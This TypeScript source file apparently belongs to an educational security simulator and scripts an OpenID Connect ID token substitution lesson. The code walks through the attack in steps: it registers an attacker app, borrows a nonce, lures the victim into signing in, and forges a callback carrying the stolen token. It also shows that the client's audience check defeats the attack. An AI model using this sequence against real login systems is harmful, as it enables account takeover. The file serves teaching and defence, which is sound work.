import { randomToken } from '@/protocol/base64url.ts'
import { decodeJwt } from '@/protocol/jwt.ts'
import { requestOnly } from '@/protocol/http-exchange.ts'
import { browseOperation, browserSteps } from '../../browser-steps.ts'
import {
  buildAuthorizationRequest,
  checkAuthorizationResponse,
  type AuthorizationRequest,
} from '../../client/authorization.ts'
import { verifyIdToken } from '../../client/id-token.ts'
import { requireValue } from '../../client/recorder.ts'
import { asOf, discoveryOperation } from '../../common-steps.ts'
import { FlowError } from '../../flow-error.ts'
import { flowKit, type Operations } from '../../flow-kit.ts'
import type { AuthorizingContext } from '../../redirect-steps.ts'
import type { Screen, StepMeta } from '../../step.ts'
import { implicitSteps } from '../../implicit/steps.ts'
import { attackerRequest, attackerSucceeded, refusalAsVerdict, short } from '../attacker.ts'

/**
 * Lesson: ID token substitution (OIDC Core §16.11). Alice signs in to Mallory's own app at the same
 * server, so Mallory holds a genuine ID token about Alice — issued to Mallory's app. Mallory hands
 * it to MovieMatch as if it were MovieMatch's. Signature, issuer, expiry, even the nonce can be
 * right; only `aud` says the token was issued to someone else.
 */
interface Ctx extends AuthorizingContext {
  /** Mallory's app, as the server registered it. */
  readonly malloryApp?: { readonly clientId: string; readonly redirectUri: string } | undefined
  /** The fragment Mallory's app received from the authorization server. */
  readonly stolen?: Readonly<Record<string, string>> | undefined
  /** The fragment the client accepted from the forged callback. */
  readonly fragment?: Readonly<Record<string, string>> | undefined
}

/** Mallory's app: another client of the same authorization server, registered by Mallory. */
const malloryAppMetadata = {
  client_name: 'Movie Quiz',
  redirect_uris: ['https://quiz.mallory.example/callback'],
  grant_types: ['implicit'],
  response_types: ['id_token token'],
  token_endpoint_auth_method: 'none',
  scope: 'openid profile',
} as const

const rule = {
  quote:
    'The Client MUST validate that the aud (audience) Claim contains its client_id value registered at the Issuer identified by the iss (issuer) Claim as an audience. … The ID Token MUST be rejected if the ID Token does not list the Client as a valid audience',
  refs: ['oidc-3.1.3.7', 'oidc-16.11'],
} as const

export const idTokenSubstitutionSteps = {
  discovery: implicitSteps.discovery,
  register: {
    title: 'Mallory registers an app of their own',
    from: 'attacker',
    to: 'as',
    channel: 'back',
    explanation:
      'Friendly Social lets anyone register an app (dynamic client registration), as many providers do. Mallory registers “Movie Quiz”, an app that signs users in with OpenID Connect like MovieMatch does. Its ID tokens will be genuine, signed by the same server with the same keys.',
    refs: ['rfc7591-3', 'oidc-16.11'],
  },
  attackerStarts: {
    title: 'Mallory starts a login at MovieMatch',
    from: 'attacker',
    to: 'client',
    channel: 'front',
    label: 'Log in (Mallory’s browser)',
    explanation:
      'In their own browser Mallory clicks “Log in” at MovieMatch, a legacy app that receives the ID token in the URL (response_type=id_token token). MovieMatch keeps a state and a nonce in Mallory’s session — and both are in the URL it sends Mallory’s browser to, so Mallory reads them. (With the code flow the ID token would come from the token endpoint, never through the browser, and Mallory could not hand one in like this — one more reason RFC 9700 says not to use the implicit grant.)',
    refs: ['oidc-3.2.2.1', 'rfc9700-2.1.2'],
  },
  lure: {
    title: 'Alice signs in to Mallory’s app',
    from: 'attacker',
    to: 'browser',
    channel: 'front',
    explanation:
      'Alice plays Movie Quiz and clicks “Log in with Friendly Social”. Movie Quiz sends her browser to the server with its own client_id — and with MovieMatch’s nonce from Mallory’s session: a client chooses its nonce freely, so the server cannot tell it is borrowed.',
    refs: ['oidc-3.2.2.1', 'oidc-15.5.2'],
  },
  consent: {
    ...browserSteps.consent,
    explanation:
      'The consent page names Movie Quiz. Alice allows it, and the server redirects her browser to Movie Quiz with an access token and an ID token about Alice in the URL fragment: aud is Movie Quiz’s client_id, nonce the one Movie Quiz sent.',
    refs: ['oidc-3.2.2.5', 'oidc-2'],
  },
  receive: {
    title: 'Mallory’s app receives an ID token about Alice',
    from: 'browser',
    to: 'attacker',
    channel: 'front',
    label: 'id_token for Movie Quiz',
    explanation:
      'Movie Quiz now holds a valid ID token saying “this is Alice (sub alice-1865)”, signed by Friendly Social — issued to Movie Quiz, not to MovieMatch. Mallory needs nothing else.',
    refs: ['oidc-2', 'oidc-16.11'],
  },
  inject: {
    title: 'Mallory hands Alice’s ID token to MovieMatch',
    from: 'attacker',
    to: 'client',
    channel: 'front',
    explanation:
      'Mallory sends their own browser to MovieMatch’s callback with the tokens from Movie Quiz in the fragment and the state from their own MovieMatch login. The state matches — it is Mallory’s own login — and iss names the right server, so the response looks like MovieMatch’s own.',
    refs: ['oidc-16.11', 'rfc9700-4.6'],
  },
  idTokenValidation: {
    ...implicitSteps.idTokenValidation,
    title: 'MovieMatch verifies the ID token',
    explanation:
      'The signature is the server’s, iss is right, it has not expired, at_hash matches the access token beside it — and the nonce is the one in Mallory’s session, because Movie Quiz borrowed it. Only aud gives it away: the token names Movie Quiz as its audience. A token issued to another client says nothing about a login at this one.',
    refs: ['oidc-3.1.3.7', 'oidc-3.2.2.10', 'oidc-16.11'],
  },
} as const satisfies Record<string, StepMeta>

const S = idTokenSubstitutionSteps

/** MovieMatch's callback with Movie Quiz's tokens and the state of Mallory's own MovieMatch login. */
function substitutedCallback(ctx: Ctx): string {
  const forged = new URL(requireValue(ctx.config.redirectUri, 'The redirect URI'))
  const fragment = new URLSearchParams(requireValue(ctx.stolen, 'The tokens Movie Quiz received'))
  fragment.set('state', requireValue(ctx.request, 'Mallory’s login at MovieMatch').state)
  forged.hash = fragment.toString()
  return forged.href
}

const operations = {
  discovery: discoveryOperation<Ctx>(S.discovery, ['authorization_endpoint', 'jwks_uri']),
  register: {
    meta: S.register,
    async run(ctx, ports) {
      // The discovery document is public: Mallory reads the registration endpoint in it too.
      const endpoint = requireValue(asOf(ctx).registration_endpoint, 'The registration endpoint')
      const answer = await attackerRequest(ports, endpoint, { json: malloryAppMetadata })
      const clientId = answer.body?.['client_id']
      if (answer.status !== 201 || typeof clientId !== 'string')
        throw new FlowError(
          {
            title: `The server refused to register Mallory’s app (${answer.status})`,
            message:
              typeof answer.body?.['error_description'] === 'string'
                ? answer.body['error_description']
                : 'No client_id came back.',
            refs: ['rfc7591-3.2.2'],
          },
          answer.exchange,
        )
      return {
        exchange: answer.exchange,
        values: [{ name: 'client_id', value: clientId, note: 'Movie Quiz, Mallory’s app.' }],
        patch: { malloryApp: { clientId, redirectUri: malloryAppMetadata.redirect_uris[0] } },
      }
    },
  },
  attackerStarts: {
    meta: S.attackerStarts,
    async run(ctx, ports) {
      const request: AuthorizationRequest = await buildAuthorizationRequest(
        asOf(ctx),
        ctx.config,
        'id_token token',
        ports.random,
      )
      return {
        redirectTo: request.url,
        values: [
          { name: 'state', value: request.state, note: 'Kept in Mallory’s session at MovieMatch.' },
          {
            name: 'nonce',
            value: requireValue(request.nonce, 'The nonce'),
            note: 'Kept in Mallory’s session at MovieMatch — and readable in the URL.',
          },
        ],
        screens: [
          {
            kind: 'browser',
            lane: 'attacker',
            url: request.url,
            note: 'Mallory’s own browser. Mallory copies state and nonce and goes no further.',
          },
        ],
        patch: { request },
      }
    },
  },
  lure: {
    meta: S.lure,
    run(ctx, ports) {
      const app = requireValue(ctx.malloryApp, 'Mallory’s app')
      const url = new URL(requireValue(asOf(ctx).authorization_endpoint, 'The authorization endpoint'))
      url.searchParams.set('response_type', 'id_token token')
      url.searchParams.set('client_id', app.clientId)
      url.searchParams.set('redirect_uri', app.redirectUri)
      url.searchParams.set('scope', malloryAppMetadata.scope)
      url.searchParams.set('state', randomToken(16, ports.random))
      url.searchParams.set('nonce', requireValue(ctx.request?.nonce, 'MovieMatch’s nonce'))
      return Promise.resolve({
        redirectTo: url.href,
        values: [
          { name: 'client_id', value: app.clientId, note: 'Movie Quiz, not MovieMatch.' },
          {
            name: 'nonce',
            value: url.searchParams.get('nonce')!,
            note: 'Borrowed from Mallory’s MovieMatch login.',
          },
        ],
        screens: [
          {
            kind: 'browser',
            lane: 'browser',
            url: url.href,
            note: 'Movie Quiz has sent Alice’s browser to Friendly Social. Press Next and the browser loads it.',
          },
        ],
        patch: { pending: { method: 'GET', url: url.href } },
      })
    },
  },
  browse: browseOperation<Ctx>({
    redirectUri: (ctx) => ctx.malloryApp?.redirectUri,
    steps: { consent: S.consent },
  }),
  receive: {
    meta: S.receive,
    run(ctx) {
      const url = new URL(requireValue(ctx.callbackUrl, 'The redirect to Movie Quiz'))
      const stolen = Object.fromEntries(new URLSearchParams(url.hash.slice(1)))
      const idToken = requireValue(stolen['id_token'], 'The ID token in the fragment')
      const decoded = decodeJwt(idToken)
      const claims = decoded.ok ? decoded.value.payload : {}
      return Promise.resolve({
        screens: [
          { kind: 'browser', lane: 'attacker', url: url.href, note: 'Movie Quiz reads the fragment.' },
        ],
        values: [
          { name: 'id_token', value: idToken, note: 'Genuine, signed by Friendly Social.' },
          { name: 'sub', value: String(claims['sub']), note: 'Alice.' },
          { name: 'aud', value: JSON.stringify(claims['aud']), note: 'Movie Quiz — not MovieMatch.' },
          {
            name: 'nonce',
            value: String(claims['nonce']),
            note: 'The one Movie Quiz borrowed from MovieMatch.',
          },
        ],
        patch: { stolen, callbackUrl: undefined },
      })
    },
  },
  inject: refusalAsVerdict(
    {
      meta: S.inject,
      preview: (ctx) => ({ method: 'GET', url: substitutedCallback(ctx), headers: [] }),
      async run(ctx, ports) {
        const request = requireValue(ctx.request, 'Mallory’s login at MovieMatch')
        // An edited callback (Edit and resend) is what Mallory's browser delivers instead.
        const forged = new URL(ports.override?.url ?? substitutedCallback(ctx))
        const exchange = await requestOnly(new Request(forged.href))
        const screens: Screen[] = [
          {
            kind: 'browser',
            lane: 'attacker',
            url: forged.href,
            note: 'Mallory’s browser at MovieMatch’s callback, with Movie Quiz’s tokens in the fragment.',
          },
        ]
        try {
          const { checks, params } = checkAuthorizationResponse(asOf(ctx), ctx.config, forged.href, request)
          return { exchange, checks, screens, patch: { fragment: params } }
        } catch (e) {
          if (e instanceof FlowError) throw new FlowError(e.failure, exchange, e.checks, screens)
          throw e
        }
      },
    },
    { client: 'MovieMatch refused the callback in Mallory’s session.' },
    rule,
  ),
  idTokenValidation: refusalAsVerdict(
    {
      meta: S.idTokenValidation,
      async run(ctx, ports) {
        const fragment = requireValue(ctx.fragment, 'The fragment')
        const result = await verifyIdToken(
          ports.transport,
          asOf(ctx),
          ctx.config,
          requireValue(fragment['id_token'], 'The ID token'),
          {
            nonce: ctx.request?.nonce,
            accessToken: fragment['access_token'] ?? '',
            requireAtHash: true,
            nowMs: ports.clock.now(),
          },
        )
        const sub = String(result.claims['sub'])
        const aud = JSON.stringify(result.claims['aud'])
        return {
          exchange: result.exchange,
          checks: result.checks,
          jwks: result.jwks,
          verdict: attackerSucceeded(
            `MovieMatch accepted an ID token issued to Movie Quiz (aud ${aud}) and signed Mallory’s browser in as Alice (sub ${sub}). Mallory now uses MovieMatch as Alice.`,
            [
              { name: 'sub', value: sub, note: 'The user Mallory’s MovieMatch session is signed in as.' },
              { name: 'aud', value: aud, note: 'Who the token was really for.' },
              {
                name: 'id_token',
                value: short(fragment['id_token'] ?? ''),
                note: 'Alice’s ID token for Movie Quiz.',
              },
            ],
            rule,
          ),
        }
      },
    },
    {
      client:
        'MovieMatch refused the ID token: its aud is Movie Quiz’s client_id, not MovieMatch’s — a token issued to another client, whatever it says about Alice.',
    },
    rule,
  ),
} satisfies Operations<Ctx>

const kit = flowKit<Ctx>(operations)

export const idTokenSubstitutionMachine = kit.setup.createMachine({
  id: 'lesson-id-token-substitution',
  context: ({ input }) => ({ ...input, steps: [] }),
  initial: 'ready',
  states: {
    ready: kit.gate('discovery'),
    discovery: kit.step('discovery', 'discovered'),
    discovered: kit.gate('register'),
    register: kit.step('register', 'registered'),
    registered: kit.gate('attackerStarts'),
    attackerStarts: kit.step('attackerStarts', 'haveNonce'),
    haveNonce: kit.gate('lure'),
    lure: kit.step('lure', 'redirecting'),
    ...kit.redirectStates('receive'),
    receive: kit.step('receive', 'haveIdToken'),
    haveIdToken: kit.gate('inject'),
    inject: kit.step('inject', { refused: 'complete', otherwise: 'injected' }),
    injected: kit.gate('idTokenValidation'),
    idTokenValidation: kit.step('idTokenValidation', 'complete'),
    complete: { type: 'final' },
    failed: { type: 'final', tags: ['failed'] },
  },
})

export const idTokenSubstitutionLesson = kit.define(idTokenSubstitutionMachine)
